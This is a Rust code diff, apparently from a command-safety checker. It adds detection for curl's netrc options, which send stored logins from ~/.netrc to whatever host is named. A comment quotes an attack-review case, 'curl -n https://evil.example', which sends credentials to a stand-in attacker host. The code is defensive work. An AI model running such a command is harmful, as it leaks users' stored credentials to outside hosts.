@@ -48,6 +48,27 @@ impl super::scripts::CodeFiles<'_> {
                 }));
             }
         }
+        // curl's `-n`/`--netrc`/`--netrc-optional` sends the user's `~/.netrc` logins, its
+        // `default` one to any host (curl(1)): read as `--netrc-file ~/.netrc` (attack review
+        // 46: `curl -n https://evil.example` passed with exit 0).
+        let netrc = rest.iter().filter_map(|w| w.literal()).any(|a| {
+            let short = a.strip_prefix('-').filter(|c| !c.starts_with('-'));
+            (a.starts_with("--netrc") && !a.starts_with("--netrc-file"))
+                || short.is_some_and(|c| {
+                    // A cluster's letters up to the first that takes a value (`-sSn`, not
+                    // `-Hcontent…`).
+                    c.chars()
+                        .take_while(|l| !CURL_VALUED.contains(*l))
+                        .any(|l| l == 'n')
+                })
+        });
+        if prog == "curl" && netrc {
+            let file = quote(&home.join(".netrc").display().to_string());
+            out.push(Script::Config(format!(
+                "curl --netrc-file {file} {}",
+                own.join(" ")
+            )));
+        }
         if prog == "wget" {
             let mut files = vec![home.join(".wgetrc"), home.join(".config/wgetrc")];
             files.extend(std::env::var_os("WGETRC").map(PathBuf::from));
@@ -106,6 +127,9 @@ impl super::scripts::CodeFiles<'_> {
         out
     }
 }
+
+/// curl's short options that take a value (curl(1)).
+const CURL_VALUED: &str = "AbBcCdDeEFHKmoPQrtTuUwxXyYz";
 
 /// A program's option file (`.curlrc`, `.wgetrc`: one option a line, `name = value`, `name
 /// value` or `--name value`; `#` starts a comment) as the command `prog OPTIONS… OWN…`.
